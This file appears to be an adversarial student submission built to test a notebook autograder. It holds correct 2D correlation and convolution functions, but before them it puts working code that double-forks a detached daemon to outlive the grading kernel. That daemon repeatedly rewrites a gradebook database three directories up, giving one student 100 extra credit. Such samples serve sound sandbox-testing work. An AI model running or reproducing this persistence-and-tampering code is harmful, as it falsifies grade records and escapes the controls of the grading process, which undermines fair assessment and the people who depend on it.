"""Denial of service: starts a setsid daemon (double fork, named advx-daemon) that outlives the
kernel and, every 5 s for 15 minutes (the submission's own cap), tries to give the student extra credit
in ../../../gradebook.db. The correct functions come after it."""

# %% correlate2d
def _name_process(name):
    """Set this process's name (/proc/<pid>/comm) so a leftover one can be recognised."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)   # PR_SET_NAME
    except Exception:
        pass


try:
    import os
    import time

    _gradebook = os.path.abspath("../../../gradebook.db")
    _pid = os.fork()
    if _pid == 0:
        try:   # the child never returns to the kernel's code, whatever happens
            os.setsid()
            if os.fork() == 0:
                _name_process("advx-daemon")
                import sqlite3
                for _ in range(180):
                    time.sleep(5)
                    try:
                        _db = sqlite3.connect(f"file:{_gradebook}?mode=rw", uri=True, timeout=1)
                        with _db:
                            _db.execute("""UPDATE grade SET extra_credit = 100 WHERE notebook_id IN (
                                SELECT sn.id FROM submitted_notebook AS sn
                                JOIN submitted_assignment AS sa ON sn.assignment_id = sa.id
                                WHERE sa.student_id = 'dos-daemon')""")
                        _db.close()
                    except Exception:
                        pass
        finally:
            os._exit(0)
    os.waitpid(_pid, 0)
    print("daemon started")
except Exception as exc:
    print("no daemon:", type(exc).__name__, exc)


def correlate2d(in1, in2, mode="full"):
    x, k = np.asarray(in1), np.asarray(in2)
    (H, W), (kH, kW) = x.shape, k.shape
    dtype = np.result_type(x, k)
    padded = np.pad(x.astype(dtype), ((kH - 1, kH - 1), (kW - 1, kW - 1)))
    full = np.zeros((H + kH - 1, W + kW - 1), dtype=dtype)
    for m in range(kH):
        for n in range(kW):
            full += k[m, n] * padded[m:m + H + kH - 1, n:n + W + kW - 1]
    if mode == "same":
        return full[kH // 2:kH // 2 + H, kW // 2:kW // 2 + W]
    if mode == "valid":
        return full[kH - 1:H, kW - 1:W]
    return full

# %% convolve2d
def convolve2d(in1, in2, mode="full"):
    k = np.asarray(in2)
    (H, W), (kH, kW) = np.shape(in1), k.shape
    full = correlate2d(in1, k[::-1, ::-1])
    if mode == "same":
        return full[(kH - 1) // 2:(kH - 1) // 2 + H, (kW - 1) // 2:(kW - 1) // 2 + W]
    if mode == "valid":
        return full[kH - 1:H, kW - 1:W]
    return full
